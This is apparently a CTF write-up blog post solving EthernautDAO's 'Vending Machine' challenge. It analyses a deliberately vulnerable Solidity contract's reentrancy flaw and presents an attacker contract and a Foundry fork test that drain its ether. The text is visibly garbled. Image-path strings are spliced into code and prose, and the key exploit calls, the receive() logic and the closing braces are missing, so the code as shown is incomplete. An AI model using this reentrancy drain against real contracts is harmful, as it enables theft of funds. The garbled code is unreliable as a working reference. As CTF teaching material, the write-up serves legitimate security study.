Emanuele RicciEmanuele Ricci

Emanuele Ricci

7 min read

EthernautDAO CTF 4 — Vending Machine Solution

ΞthernautDAO is common goods DAO aimed at transforming developers into Ethereum developers.

They started releasing CTF challenges on Twitter, so how couldn't I start solving them?


CTF 4: Vending MachineFor this challenge, we have to deal only with a single Smart Contract called VendingMachine, a simple contract that models after a vending machine that provides only peanuts

At deployment time the contract is funded with 1 Ether and our goal is to drain it from the whole balance.

Study the contracts

Let's start reviewing all the contracts code. The code is pretty big, but I will only describe those functions that are interesting to us.


constructor() payable {
    require(msg.value >= 1 ether, "You need a minimum of reserve of 1 ether before deploying the contract");

    owner = msg.sender;
    reserve = msg.value;
    peanuts[address(this)] = 2000;
    txCheckLock = false;

When the contract is deployed the msg.sender is set as the owner of the contract, the reserve variable is initialized with the amount of ether sent, the txCheckLock is initialized to false and the peanuts mapping is updated giving the contract itself 2000 peanuts.

Nothing special here, we are just interested to know that at deploy time there's at least 1 ether in the contract's balance.

isStillValid function modifier

modifier isStillValid() {
    require(!txCheckLock, "Sorry, this product project has been hacked");

This function modifier, used almost everywhere, will just revert if the contract has been already hacked by someone

isExtContract(address _addr)

function isExtContract(address _addr) private view returns (bool) {
    uint32 _codeSize;
    assembly {_codeSize := extcodesize(_addr)
    return (_codeSize > 0 || _addr != tx.origin);

The idea behind this function is that it will return true if the _addr address is a contract. The function determines if the _addr is a contract if one of these two requirements is met:

  • the size of the code field of the address is greater than 0. If you want to know more about howthis opcode work, go over EXTCODESIZE opcode documentation
  • the _addr is not equal to the tx.origin

Why is crucial to not only rely on the code size? Because when a contract is deployed and the creator is executed, the extcodesize(address) would return 0. An interesting read about this topic is Deconstructing a Solidity Contract — Part II: Creation vs. Runtime.

deposit function

function deposit() public payable isStillValid {
    require(msg.value >= 0.1 ether, "You must have at least 0.1 ether to initiate transaction");
    consumersDeposit[msg.sender] += msg.value;

Allow the user to deposit at least 0.1 ether to the contract. The user balance is tracked by the consumersDeposit mapping variable.

withdrawal functionfunction withdrawal() public isStillValid {
    uint256 contractBalanceBeforeTX = getContractBalance();
    uint256 balance = consumersDeposit[msg.sender];
    uint256 finalContractBalance = contractBalanceBeforeTX - balance;

    require(balance > 0, "Insufficient balance");

    (bool sent, ) = msg.sender.call{value: balance}("");
    require(sent, "Failed to send ether");

    consumersDeposit[msg.sender] = 0;

    uint256 contractBalanceAfterTX = getContractBalance();

    if ((contractBalanceAfterTX < finalContractBalance) && isExtContract(msg.sender)) {
        txCheckLock = true;

This is the most interesting and problematic function of the whole contract. The purpose of this function is to allow the msg.sender to withdraw the whole balance he/she has accumulated via the deposit function.

Note: All the variables and the last check are only important to track if the contract has been hacked or not and to not allow other auditors to submit a second solution, they are not important for this article scope.Did you spot the huge red flag in the function?

The function implementation is not following the Use the Checks-Effects-Interactions Pattern allowing the msg.sender a way to re-enter the withdrawl function and keep withdrawing until the contract is completely drained.

The attack

To leverage the reentrancy exploit of the withdrawal function, we need to deploy a contract that will re-enter the function when the VendingMachine send the funds calling the contract's receive function.

contract VendingMachineExploiter {
    address private owner;
    VendingMachine private victim;
    bool private done = false;

    constructor(VendingMachine _victim) payable {
        // init
        owner = msg.sender;
        victim = _victim;

        // deposit the minimum amount we need to be able to start the attack
        victim.deposit{value: msg.value}();function exploit() external {
        // Start the attack

    function withdraw() external {
        // Withdraw all the funds in the contract
        (bool sent, ) = owner.call{value: address(this).balance}("");
        require(sent, "Failed to send ether");

    receive() external payable {
        // The receive function will be called by the `VendingMachine.withdrawal` function
        // And we use it to re-enter into it until we have drained all the funds
        if (address(victim).balance != 0) {Before moving on, I would like to explain something. It's important to understand that you must deposit a specific amount to make it work correctly.

The withdrawal function will always withdraw the whole balance you have deposited via the deposit function.

This mean that if the balance of the VendingMachine contract before your deposit is X Ether you must deposit X Ether or an amount that is divisible by that X.

Let's make an example. Inside the VendingMachine there is 10 ether

  • if you deposit 10 ether you will need to call withdrawal two times. One to withdraw your deposit, one to withdraw the VendingMachine balance
  • if you deposit 1 ether you will have to call withdrawl eleven times. One to withdraw your deposit and then 10 more times to withdraw the rest of the balance
  • if you deposit 11 ether the contract will withdraw your 11 ether but it will also try to re-enter and withdraw the same amount. The transaction will fail because the contract only have 10 ether in its balance right now

So, thesolution is to

  • If you have enough funds, deposit the same amount of ether to match the contract balance. It will cost less gas because you will only call the withdrawal two times
  • otherwise deposit an amount that still allows you tocomplete the challenge but prevent you to not revert because of the Out of Gas exception

Solution code

Now what we have to do is:

  • Create an Alchemy or Infura account to be able to fork the Goerli blockchain
  • Choose a good block from which we can create a fork. Any block after the creation of the contract will be good
  • Run a foundry test that will use the fork to execute the testHere's the code that I used for the test:

function testDrainVendingMachine()public {
    address player = users[0];

    uint256 initialPlayerBalance = player.balance;
    uint256 initialVendingMachineBalance = address(vendingMachine).balance;

    // deploy the VendingMachineExploiter contract
    VendingMachineExploiter exploiter = new VendingMachineExploiter{value: 0.1 ether}(vendingMachine);
    vm.label(address(exploiter), "VendingMachineExploiter");

    // start the exploit process

    // send back all the funds to the player


    // Assert that we have drained the `VendingMachine` contract
    assertEq(player.balance, initialPlayerBalance + initialVendingMachineBalance);
    assertEq(address(vendingMachine).balance, 0 ether);

Here is the command I have used to run the test: forge test --match-contract VendingMachineTest --fork-url <your_rpc_url>--fork-block-number 7235687 -vv

Justremember to replace <your_rpc_url> with the RPCURL you got from Alchemy or Infura.

You can read the full solution of the challenge, opening VendingMachine.t.sol

Further reading


All Solidity code, practices and patterns in this repository are DAMN VULNERABLE and for educational purposes only.

do not give any warranties and will not be liable for any loss incurred through any use of this codebase.